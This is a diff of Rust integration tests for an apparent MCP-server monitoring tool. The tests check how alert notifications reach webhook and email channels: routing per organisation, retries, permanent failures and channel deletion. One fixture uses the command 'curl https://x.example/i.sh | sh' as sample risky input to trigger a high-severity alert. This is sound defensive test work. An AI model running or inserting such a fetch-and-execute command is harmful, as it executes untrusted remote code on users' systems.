@@ -1320,3 +1320,214 @@ async fn agents_seen_since_lists_only_recent_ones_across_organisations() {
     want.sort_by_key(|(_, id, _)| id.to_string());
     assert_eq!(seen, want);
 }
+
+fn channel(org: &Org, name: &str, min: RiskLevel) -> crate::notify::Channel {
+    let now = Utc::now();
+    crate::notify::Channel {
+        id: mcpwatch_protocol::ids::ChannelId::new(),
+        org_id: org.id,
+        name: name.into(),
+        kind: crate::notify::ChannelKind::Webhook,
+        target: "https://hooks.example.com/x".into(),
+        secret: Some("whsec_test_secret_value".into()),
+        min_severity: min,
+        events: vec![crate::events::EventName::AlertCreated],
+        enabled: true,
+        source: crate::notify::ChannelSource::Api,
+        created_by: None,
+        created_at: now,
+        updated_at: now,
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn events_make_deliveries_for_the_channels_that_want_them_in_their_organisation() {
+    use crate::notify::{self, DeliveryStatus, Outcome};
+    let (_dir, store, o, a) = one_agent().await;
+    let other = org("B");
+    store
+        .create_org_with_admin(
+            other.clone(),
+            user(&other, "b@b.example", Role::Admin),
+            false,
+        )
+        .await
+        .unwrap();
+    let high = channel(&o, "high", RiskLevel::High);
+    let low = channel(&o, "low", RiskLevel::Low);
+    let theirs = channel(&other, "theirs", RiskLevel::Low);
+    for c in [&high, &low, &theirs] {
+        store.create_channel(c.clone()).await.unwrap();
+    }
+    store
+        .update_org(
+            o.id,
+            OrgPatch {
+                alert_email: Some(Some("sec@a.example".into())),
+                ..OrgPatch::default()
+            },
+            Utc::now(),
+        )
+        .await
+        .unwrap();
+    assert_eq!(store.list_channels(o.id).await.unwrap().len(), 2);
+    assert!(matches!(
+        store.get_channel(other.id, high.id).await,
+        Err(Error::NotFound)
+    ));
+
+    // A critical server: one alert, a delivery to each of A's three channels.
+    let risky = server("shell", &["-y", "mcp-server-commands"]);
+    let mut risky = risky;
+    risky.command = Some("curl https://x.example/i.sh | sh".into());
+    store
+        .apply_report(a.org_id, a.id, report(vec![risky]))
+        .await
+        .unwrap();
+    let alerts = store
+        .list_alerts(
+            o.id,
+            AlertQuery {
+                page: 1,
+                page_size: 10,
+                ..AlertQuery::default()
+            },
+        )
+        .await
+        .unwrap();
+    let severity = alerts.items[0].severity;
+    let due = store
+        .due_deliveries(Utc::now() + chrono::Duration::seconds(1), 100)
+        .await
+        .unwrap();
+    let email = notify::alert_email_channel(&store.get_org(o.id).await.unwrap()).unwrap();
+    assert!(severity >= RiskLevel::High, "{severity:?}");
+    let mut expected = vec![low.id, high.id, email.id];
+    let mut got: Vec<_> = due.iter().map(|d| d.channel_id).collect();
+    got.sort();
+    expected.sort();
+    assert_eq!(got, expected);
+    assert!(
+        due.iter()
+            .all(|d| d.org_id == o.id && d.status == DeliveryStatus::Pending)
+    );
+    assert_eq!(due[0].event.event, crate::events::EventName::AlertCreated);
+    assert_eq!(due[0].event.data["agent"]["id"], serde_json::json!(a.id));
+
+    // A retry moves the delivery later; a success ends it.
+    let mut d = due.into_iter().find(|d| d.channel_id == low.id).unwrap();
+    let now = Utc::now();
+    notify::after_attempt(
+        &mut d,
+        Outcome::Retry {
+            status: Some(503),
+            error: "HTTP 503".into(),
+            retry_after: None,
+        },
+        now,
+        0.0,
+    );
+    store.record_attempt(d.clone(), None).await.unwrap();
+    let next = store.next_delivery_due().await.unwrap().unwrap();
+    assert!(next <= now + chrono::Duration::seconds(5));
+    let later = store
+        .due_deliveries(now + chrono::Duration::seconds(1), 100)
+        .await
+        .unwrap();
+    assert!(later.iter().all(|x| x.id != d.id));
+    notify::after_attempt(&mut d, Outcome::Delivered { status: Some(200) }, now, 0.0);
+    store.record_attempt(d.clone(), None).await.unwrap();
+    let all = store
+        .due_deliveries(DateTime::<Utc>::MAX_UTC, 100)
+        .await
+        .unwrap();
+    assert!(all.iter().all(|x| x.id != d.id));
+    let listed = store
+        .list_deliveries(
+            o.id,
+            DeliveryQuery {
+                channel_id: Some(low.id),
+                page: 1,
+                page_size: 10,
+                ..DeliveryQuery::default()
+            },
+        )
+        .await
+        .unwrap();
+    assert_eq!(
+        (
+            listed.total,
+            listed.items[0].status,
+            listed.items[0].attempts
+        ),
+        (1, DeliveryStatus::Delivered, 2)
+    );
+    let none = store
+        .list_deliveries(
+            other.id,
+            DeliveryQuery {
+                page: 1,
+                page_size: 10,
+                ..DeliveryQuery::default()
+            },
+        )
+        .await
+        .unwrap();
+    assert_eq!(none.total, 0);
+
+    // A delivery that fails for good raises an alert about its channel, which goes to
+    // the other channels but not to the failing one.
+    {
+        let mut h = all
+            .iter()
+            .find(|x| x.channel_id == high.id)
+            .cloned()
+            .unwrap();
+        notify::after_attempt(
+            &mut h,
+            Outcome::Refused {
+                status: Some(404),
+                error: "HTTP 404".into(),
+            },
+            now,
+            0.0,
+        );
+        let alert = crate::alerts::notification_failed(&high, &h, now);
+        store.record_attempt(h, Some(alert)).await.unwrap();
+        let open = store
+            .list_alerts(
+                o.id,
+                AlertQuery {
+                    dismissed: Some(false),
+                    page: 1,
+                    page_size: 10,
+                    ..AlertQuery::default()
+                },
+            )
+            .await
+            .unwrap();
+        assert!(open.items.iter().any(|x| x.channel_id == Some(high.id)));
+        let fresh = store
+            .due_deliveries(DateTime::<Utc>::MAX_UTC, 100)
+            .await
+            .unwrap();
+        let for_failure: Vec<_> = fresh
+            .iter()
+            .filter(|x| x.event.data["alert"]["channel_id"] == serde_json::json!(high.id))
+            .map(|x| x.channel_id)
+            .collect();
+        assert!(for_failure.contains(&low.id) && !for_failure.contains(&high.id));
+    }
+
+    // Deleting a channel fails what it still had to send; other organisations cannot.
+    assert!(matches!(
+        store.delete_channel(other.id, low.id).await,
+        Err(Error::NotFound)
+    ));
+    store.delete_channel(o.id, low.id).await.unwrap();
+    let left = store
+        .due_deliveries(DateTime::<Utc>::MAX_UTC, 100)
+        .await
+        .unwrap();
+    assert!(left.iter().all(|x| x.channel_id != low.id));
+}
